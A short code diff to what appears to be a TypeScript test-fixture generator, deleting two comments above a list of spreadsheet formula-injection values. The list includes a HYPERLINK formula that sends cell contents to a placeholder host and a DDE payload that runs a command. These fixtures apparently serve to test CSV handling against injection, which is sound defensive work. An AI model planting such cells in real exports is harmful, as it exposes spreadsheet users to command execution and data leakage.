@@ -59,7 +59,6 @@ export function notesText(seed: number): Bytes {
   )
 }
 
-// Cells that a spreadsheet would run as formulas.
 const formulas = [
   '=HYPERLINK("https://canary.invalid/"&A1,"open")',
   '=1+1',
@@ -71,7 +70,6 @@ const formulas = [
   "=cmd|' /C calc'!A0",
 ] as const
 
-/** With quotes, line breaks and cells that look like formulas. */
 export function contactsCsv(seed: number): Bytes {
   const next = chance(seed)
   const rows = Array.from({ length: between(6, 14, next) }, (_, index) => [
